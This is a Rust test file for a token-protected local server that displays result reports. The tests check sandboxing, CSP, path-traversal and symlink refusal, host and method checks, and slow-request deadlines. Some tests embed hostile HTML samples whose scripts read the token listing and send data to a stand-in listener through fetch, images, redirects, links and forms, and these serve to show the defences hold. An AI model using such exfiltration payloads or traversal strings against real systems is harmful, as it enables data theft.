//! What is served, and what is refused.

use super::*;
use kalmems::results::{Output, Work};
use std::io::{Read, Write};
use std::path::Path;
use std::sync::mpsc::channel;

const TOKEN: &str = "0123456789abcdef";

/// A folder that is served until this is dropped.
struct Served {
    folder: tempfile::TempDir,
    port: u16,
    site: Arc<Site>,
    stopped: Arc<AtomicBool>,
    serving: Option<thread::JoinHandle<()>>,
}

impl Served {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        for name in ["first", "deeper/second & third"] {
            write_result(&folder.path().join(name));
        }
        std::fs::write(folder.path().join("diary.txt"), "of nobody else").unwrap();
        std::fs::write(folder.path().join("first/note.txt"), "beside a result").unwrap();
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let place = folder.path().canonicalize().unwrap();
        let site = Arc::new(Site {
            patience: Duration::from_millis(600),
            slowest: 1 << 30,
            ..Site::new(place, TOKEN.to_owned(), port)
        });
        let stopped = Arc::new(AtomicBool::new(false));
        let (stop, served) = (Arc::clone(&stopped), Arc::clone(&site));
        let serving = thread::spawn(move || {
            serve(&listener, &served, &|| stop.load(Ordering::Relaxed)).unwrap();
        });
        Self { folder, port, site, stopped, serving: Some(serving) }
    }

    /// What is answered to these bytes.
    fn raw(&self, request: &str) -> String {
        let mut connection = TcpStream::connect((Ipv4Addr::LOCALHOST, self.port)).unwrap();
        // A refusal may come before all of it is written.
        let _ = connection.write_all(request.as_bytes());
        let mut answer = Vec::new();
        let _ = connection.read_to_end(&mut answer);
        String::from_utf8_lossy(&answer).into_owned()
    }

    fn get(&self, path: &str, more: &str) -> String {
        self.raw(&format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n{more}\r\n", self.port))
    }

    /// The answer to a path behind the token.
    fn own(&self, path: &str, more: &str) -> String {
        self.get(&format!("/{TOKEN}/{path}"), more)
    }
}

impl Served {
    /// The address of the frame that shows a page.
    fn framed(&self, path: &str) -> String {
        let page = self.own(path, "");
        let source = content(&page).split_once("src=\"").map_or("", |(_, rest)| rest);
        source.split('"').next().unwrap_or_default().to_owned()
    }
}

/// The policy of an answer.
fn policy(answer: &str) -> &str {
    answer.lines().find_map(|line| line.strip_prefix("Content-Security-Policy: ")).unwrap_or_default()
}

#[test]
fn a_page_of_a_result_is_shown_in_a_frame_that_knows_the_files_of_its_own_result_alone() {
    let served = Served::new();
    let page = served.own("first/report.html", "");
    let frame = served.framed("first/report.html");
    let token = frame.split('/').nth(1).unwrap();
    assert!(token.len() == 32 && token != TOKEN && frame == served.framed("first/report.html"), "{frame}");
    let own = format!("http://127.0.0.1:{}/{token}/", served.port);
    assert!(policy(&page).contains(&format!("frame-src {own};")), "{page}");
    assert!(content(&page).contains("sandbox=\"allow-scripts allow-downloads\""), "{page}");
    let report = served.get(&frame, "");
    let rules = policy(&report);
    assert!(
        rules.contains("sandbox allow-scripts") && rules.contains(&format!("connect-src {own};")),
        "{rules}"
    );
    let scripts = rules.split_once("script-src").unwrap().1.split(';').next().unwrap();
    assert!(scripts.matches("'sha256-").count() == 2 && !scripts.contains("unsafe"), "{scripts}");
    // Its own files, and nothing else.
    assert_eq!(content(&served.get(&format!("/{token}/report_samples.bin"), "")), "0123456789");
    for path in
        ["", "deeper/second%20%26%20third/metrics.json", "../first/metrics.json", "first/metrics.json"]
    {
        assert_eq!(status(&served.get(&format!("/{token}/{path}"), "")), "404", "{path}");
    }
    let other = served.framed("deeper/second%20%26%20third/report.html");
    assert_ne!(other.split('/').nth(1), Some(token));
    assert_eq!(status(&served.own("first/nothing.html", "")), "404");
}

/// What Chromium makes of a page within some seconds: all that is shown of it.
fn looked_at(browser: &str, address: &str) -> String {
    let profile = tempfile::tempdir().unwrap();
    let mut child = std::process::Command::new(browser)
        .args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
        ])
        .args(["--timeout=4000", "--dump-dom"])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(address)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let begun = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() && begun.elapsed() < Duration::from_secs(30) {
        thread::sleep(PULSE);
    }
    let _ = child.kill();
    String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).into_owned()
}

/// What was asked of a listener that nobody answers for.
fn asked(listener: &TcpListener) -> Vec<String> {
    listener.set_nonblocking(true).unwrap();
    let mut all = Vec::new();
    while let Ok((mut connection, _)) = listener.accept() {
        connection.set_nonblocking(false).unwrap();
        connection.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        let mut bytes = [0; 200];
        let count = connection.read(&mut bytes).unwrap_or(0);
        // A browser may open a connection in advance to an address that stands in a page; nothing is sent over it.
        let first = String::from_utf8_lossy(&bytes[..count]).lines().next().unwrap_or_default().to_owned();
        all.extend(Some(first).filter(|line| !line.is_empty()));
    }
    all
}

/// A browser, where there is one.
fn chromium() -> Option<&'static str> {
    let browsers = ["chromium", "chromium-browser", "google-chrome"];
    let is_there = |browser: &&str| std::process::Command::new(browser).arg("--version").output().is_ok();
    let found = browsers.into_iter().find(is_there);
    if found.is_none() {
        let _ = writeln!(io::stderr(), "SKIPPED: there is no Chromium here");
    }
    found
}

/// Shows a page as that of a result that somebody sent, which must send nothing to `other`, and then from a host of its own, where it asks there for
/// all of these.
fn sends_nothing_away(browser: &str, served: &Served, (away, page): (&TcpListener, String), all: &[&str]) {
    let folder = served.folder.path().join("received");
    let _ = std::fs::remove_dir_all(&folder);
    let output = Output::begin(&folder, &Work::named("estimate", "a.toml")).unwrap();
    output.write("report.html", |w| w.write_all(page.as_bytes())).unwrap();
    output.commit().unwrap();
    let at = |path: &str| format!("http://127.0.0.1:{}{path}", served.port);
    let shown = looked_at(browser, &at(&format!("/{TOKEN}/received/report.html")));
    assert!(shown.contains("<iframe"), "{shown}");
    let alone = looked_at(browser, &at(&served.framed("received/report.html")));
    assert!(!alone.contains("A colleague"), "{alone}");
    assert_eq!(asked(away), Vec::<String>::new(), "{page}");

    // The same page elsewhere does all of it.
    let elsewhere = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let place = elsewhere.local_addr().unwrap();
    thread::spawn(move || {
        for connection in elsewhere.incoming().flatten() {
            let mut connection = connection;
            let _ = connection.read(&mut [0; 4096]);
            let head =
                format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}", page.len());
            let _ = connection.write_all(format!("{head}\r\nConnection: close\r\n\r\n{page}").as_bytes());
        }
    });
    looked_at(browser, &format!("http://{place}/"));
    let found = asked(away).join(" ");
    assert!(all.iter().all(|what| found.contains(what)), "{all:?} {found}");
}

/// A result that somebody sent, whose page reads what it finds and sends it away.
#[test]
fn a_hostile_report_reads_no_other_result_and_sends_nothing_away_in_chromium() {
    let Some(browser) = chromium() else { return };
    let served = Served::new();
    let away = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let other = away.local_addr().unwrap();
    let hostile = format!(
        "<!doctype html><title>report</title><p id=said>A colleague's result</p>\
         <script>document.getElementById('said').textContent = 'hostile script ran';\
         fetch('/' + location.pathname.split('/')[1] + '/').then(r => r.text()).then(t => fetch('http://{other}/list?' + t.length));\
         fetch('http://{other}/fetched');</script>\
         <meta http-equiv=refresh content=\"1; url=http://{other}/refreshed\"><img src=\"http://{other}/image\">\
         <link rel=stylesheet href=\"http://{other}/style\"><iframe src=\"http://{other}/frame\"></iframe>\
         <script src=\"http://{other}/script\"></script>"
    );
    sends_nothing_away(browser, &served, (&away, hostile), &["/image", "/fetched"]);
}

/// One that leads away by itself: the whole window, a link, a form.
#[test]
fn a_hostile_report_leads_nowhere_in_chromium() {
    let Some(browser) = chromium() else { return };
    let served = Served::new();
    let away = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let other = away.local_addr().unwrap();
    for (leads, asked) in [
        (format!("<script>top.location = 'http://{other}/top'</script>"), "/top"),
        (format!("<a id=link href='http://{other}/link'>more</a><script>link.click()</script>"), "/link"),
        (
            format!(
                "<form id=form action='http://{other}/form'><input name=all value=1></form><script>form.submit()</script>"
            ),
            "/form",
        ),
    ] {
        let page = format!("<!doctype html><title>report</title><p>A colleague's result</p>{leads}");
        sends_nothing_away(browser, &served, (&away, page), &[asked]);
    }
}

#[test]
fn a_time_that_no_run_began_at_does_not_hold_the_listing() {
    let served = Served::new();
    let output =
        Output::begin(&served.folder.path().join("late"), &Work::named("estimate", "a.toml")).unwrap();
    let record = b"[timing]\nstarted_unix_s = 9223372036854775000\n";
    output.write("run.toml", |w| w.write_all(record)).unwrap();
    output.commit().unwrap();
    let (done, listed) = channel();
    thread::spawn(move || done.send(served.own("", "")).unwrap());
    let listing = listed.recv_timeout(Duration::from_secs(5)).expect("the listing comes");
    assert!(listing.contains("3 results"), "{listing}");
}

#[test]
fn a_request_that_drips_is_ended_by_one_deadline() {
    let served = Served::new();
    let mut connection = TcpStream::connect((Ipv4Addr::LOCALHOST, served.port)).unwrap();
    let begun = std::time::Instant::now();
    // Each piece comes long before the deadline of a piece would be over.
    while connection.write_all(b"G").is_ok() && begun.elapsed() < Duration::from_secs(10) {
        thread::sleep(Duration::from_millis(100));
    }
    assert!(begun.elapsed() < Duration::from_secs(5), "{:?}", begun.elapsed());
    assert_eq!(status(&served.own("", "")), "200");
}

#[test]
fn an_answer_that_is_read_in_drips_is_ended_by_one_deadline() {
    let served = Served::new();
    // More than what waits between two programs.
    let place = served.folder.path().join("first/report_samples.bin");
    std::fs::File::create(place).unwrap().set_len(1 << 27).unwrap();
    let mut connection = TcpStream::connect((Ipv4Addr::LOCALHOST, served.port)).unwrap();
    let request =
        format!("GET /{TOKEN}/first/report_samples.bin HTTP/1.1\r\nHost: localhost:{}\r\n\r\n", served.port);
    connection.write_all(request.as_bytes()).unwrap();
    let begun = std::time::Instant::now();
    let is_held = || served.site.connections.load(Ordering::Relaxed) > 0;
    let mut bytes = vec![0; 1 << 16];
    // So much that the server can write again long before the deadline of a piece would be over.
    while connection.read(&mut bytes).is_ok() && begun.elapsed() < Duration::from_secs(10) && is_held() {
        thread::sleep(Duration::from_millis(50));
    }
    assert!(begun.elapsed() < Duration::from_secs(5), "{:?}", begun.elapsed());
    // One that is read as it comes is whole, and does not count against the deadline of the others.
    let whole = served.own("first/report_samples.bin", "Range: bytes=0-9999999\r\n");
    assert_eq!((status(&whole), content(&whole).len()), ("206", 10_000_000));
}

#[cfg(unix)]
#[test]
fn a_pipe_among_the_files_of_a_result_is_not_opened() {
    let served = Served::new();
    let place = served.folder.path().join("first/report_samples.bin");
    std::fs::remove_file(&place).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(&place).status().unwrap().success());
    let (done, answered) = channel();
    thread::spawn(move || done.send(served.own("first/report_samples.bin", "")).unwrap());
    assert_eq!(status(&answered.recv_timeout(Duration::from_secs(5)).expect("an answer comes")), "404");
}

#[cfg(unix)]
#[test]
fn a_folder_whose_name_is_no_text_is_listed_and_served() {
    use std::os::unix::ffi::OsStrExt;
    let served = Served::new();
    write_result(&served.folder.path().join(std::ffi::OsStr::from_bytes(b"me\xdfung")));
    let listing = served.own("", "");
    assert!(listing.contains("<a href=\"me%DFung/report.html\">"), "{listing}");
    assert_eq!(content(&served.own("me%DFung/report_samples.bin", "")), "0123456789");
    assert_eq!(content(&served.get(&served.framed("me%DFung/report.html"), "")), "<h1>report</h1>");
}

#[test]
fn a_range_of_an_empty_file_is_refused() {
    let served = Served::new();
    std::fs::write(served.folder.path().join("first/report_samples.bin"), "").unwrap();
    for range in ["bytes=-5", "bytes=0-", "bytes=0-4"] {
        let answer = served.own("first/report_samples.bin", &format!("Range: {range}\r\n"));
        assert_eq!(status(&answer), "416", "{range}");
    }
    assert_eq!(content(&served.own("first/report_samples.bin", "")), "");
}

#[test]
fn the_port_of_the_scheme_is_left_out_of_the_host() {
    let folder = tempfile::tempdir().unwrap();
    let host_at = |port: u16, host: &str| {
        let site = Site::new(folder.path().to_owned(), TOKEN.to_owned(), port);
        let text = format!("GET /{TOKEN}/ HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let mut answer = Vec::new();
        answer_to(&Request::read(text.as_bytes()).unwrap(), &site).send(&mut answer, true).unwrap();
        status(&String::from_utf8(answer).unwrap()).to_owned()
    };
    for (port, host, expected) in [
        (80, "localhost", "200"),
        (80, "127.0.0.1:80", "200"),
        (8080, "localhost", "421"),
        (80, "evil.example", "421"),
    ] {
        assert_eq!(host_at(port, host), expected, "{port} {host}");
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        self.stopped.store(true, Ordering::Relaxed);
        if let Some(serving) = self.serving.take() {
            let _ = serving.join();
        }
    }
}

fn write_result(place: &Path) {
    let output = Output::begin(place, &Work::named("estimate", "scanner.toml")).unwrap();
    output.write("report.html", |w| w.write_all(b"<h1>report</h1>")).unwrap();
    output.write("report_samples.bin", |w| w.write_all(b"0123456789")).unwrap();
    output.write("figures/motion.svg", |w| w.write_all(b"<svg/>")).unwrap();
    let metrics = r#"{"recordings":[{"segments":[{"estimators":[{"name":"EKF","grade":"doubtful"}]}]}]}"#;
    output.write("metrics.json", |w| w.write_all(metrics.as_bytes())).unwrap();
    output.commit().unwrap();
}

fn status(answer: &str) -> &str {
    answer.split(' ').nth(1).unwrap_or(answer)
}

fn content(answer: &str) -> &str {
    answer.split_once("\r\n\r\n").map_or("", |(_, content)| content)
}

#[test]
fn results_are_listed_with_verdicts_and_their_files_are_served() {
    let served = Served::new();
    let listing = served.own("", "");
    assert_eq!(status(&listing), "200");
    for expected in [
        "<a href=\"first/report.html\">first</a>",
        "<a href=\"deeper/second%20%26%20third/report.html\">deeper/second &amp; third</a>",
        "EKF: <b class=\"doubtful\">doubtful</b>",
        "2 results",
        "default-src 'none'",
    ] {
        assert!(listing.contains(expected), "{expected}: {listing}");
    }
    let report = served.get(&served.framed("deeper/second%20%26%20third/report.html"), "");
    assert_eq!((status(&report), content(&report)), ("200", "<h1>report</h1>"));
    assert!(report.contains("Content-Type: text/html; charset=utf-8\r\nContent-Length: 15\r\n"));
    assert_eq!(content(&served.own("first/figures/motion.svg", "")), "<svg/>");
    let head = served.raw(&format!(
        "HEAD /{TOKEN}/first/metrics.json HTTP/1.1\r\nHost: localhost:{}\r\n\r\n",
        served.port
    ));
    assert!(head.contains("Content-Length: 82\r\n") && content(&head).is_empty(), "{head}");
}

#[test]
fn pieces_of_a_file_are_served() {
    let served = Served::new();
    for (range, status_and_place, expected) in [
        ("bytes=2-4", ["206", "bytes 2-4/10"], "234"),
        ("bytes=8-", ["206", "bytes 8-9/10"], "89"),
        ("bytes=-3", ["206", "bytes 7-9/10"], "789"),
        ("bytes=4-400", ["206", "bytes 4-9/10"], "456789"),
    ] {
        let answer = served.own("first/report_samples.bin", &format!("Range: {range}\r\n"));
        assert_eq!((status(&answer), content(&answer)), (status_and_place[0], expected), "{range}");
        assert!(answer.contains(&format!("Content-Range: {}\r\n", status_and_place[1])), "{answer}");
    }
    for range in ["bytes=10-", "bytes=4-3", "bytes=-0", "bytes=0-1,4-5", "bytes", "bytes=a-b"] {
        assert_eq!(
            status(&served.own("first/report_samples.bin", &format!("Range: {range}\r\n"))),
            "416",
            "{range}"
        );
    }
}

#[test]
fn nothing_is_served_without_the_token() {
    let served = Served::new();
    for path in [
        "/",
        "/first/report.html",
        "/0123456789abcdee/",
        "/0123456789abcde/",
        "/0123456789abcdef0/",
        "/x/first/report.html",
    ] {
        assert_eq!(status(&served.get(path, "")), "403", "{path}");
    }
}

#[test]
fn only_files_of_results_within_the_folder_are_served() {
    let served = Served::new();
    let outside = tempfile::tempdir().unwrap();
    write_result(&outside.path().join("secret"));
    for path in [
        "diary.txt",
        "first/note.txt",
        "first",
        "first/",
        "first/figures",
        "first/manifest.toml",
        "nowhere/report.html",
        "first/../diary.txt",
        "first/%2e%2e/diary.txt",
        "..%2fsecret/report.html",
        "first/report.html/",
        "first//report.html",
    ] {
        assert_eq!(status(&served.own(path, "")), "404", "{path}");
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        let first = served.folder.path().join("first");
        symlink(outside.path().join("secret"), served.folder.path().join("link")).unwrap();
        assert_eq!(status(&served.own("link/report.html", "")), "404");
        // A file of the result that became a link since, and a folder of it.
        std::fs::remove_file(first.join("report.html")).unwrap();
        symlink(outside.path().join("secret/report.html"), first.join("report.html")).unwrap();
        assert_eq!(status(&served.own("first/report.html", "")), "404");
        std::fs::remove_dir_all(first.join("figures")).unwrap();
        symlink(outside.path().join("secret/figures"), first.join("figures")).unwrap();
        assert_eq!(status(&served.own("first/figures/motion.svg", "")), "404");
        assert!(!served.own("", "").contains("link/report.html"));
    }
}

#[test]
fn other_hosts_methods_and_bodies_are_refused() {
    let served = Served::new();
    let of = |text: &str| status(&served.raw(text)).to_owned();
    let own = format!("Host: 127.0.0.1:{}\r\n", served.port);
    for host in ["evil.example", "127.0.0.1", "127.0.0.1:1", "127.0.0.1.evil.example", ""] {
        assert_eq!(of(&format!("GET /{TOKEN}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")), "421", "{host}");
    }
    assert_eq!(of(&format!("GET /{TOKEN}/ HTTP/1.1\r\n\r\n")), "421");
    for method in ["POST", "PUT", "DELETE", "OPTIONS", "CONNECT", "TRACE"] {
        assert_eq!(of(&format!("{method} /{TOKEN}/ HTTP/1.1\r\n{own}\r\n")), "405", "{method}");
    }
    assert_eq!(of(&format!("GET /{TOKEN}/ HTTP/1.1\r\n{own}Content-Length: 5\r\n\r\nhello")), "413");
    assert_eq!(of(&format!("GET /{TOKEN}/ HTTP/1.1\r\n{own}X: {}\r\n\r\n", "a".repeat(9000))), "431");
    assert_eq!(of(&format!("GET /{TOKEN}/ HTTP/1.0\r\n{own}\r\n")), "505");
    assert_eq!(of("nonsense\r\n\r\n"), "400");
    // And goes on.
    assert_eq!(status(&served.own("", "")), "200");
}

#[test]
fn connections_have_a_bound_and_idle_ones_do_not_delay_the_end() {
    let served = Served::new();
    let idle: Vec<TcpStream> = (0..MOST_CONNECTIONS)
        .map(|_| TcpStream::connect((Ipv4Addr::LOCALHOST, served.port)).unwrap())
        .collect();
    let answer = loop {
        // Until all of them are taken.
        let answer = served.own("", "");
        if status(&answer) != "200" {
            break answer;
        }
    };
    assert_eq!(status(&answer), "503");
    drop(idle);
    while status(&served.own("", "")) != "200" {}
    let _idle = TcpStream::connect((Ipv4Addr::LOCALHOST, served.port)).unwrap();
    let (done, ended) = channel();
    thread::spawn(move || {
        drop(served);
        done.send(()).unwrap();
    });
    ended.recv_timeout(Duration::from_secs(2)).expect("it ends while a connection is open");
}
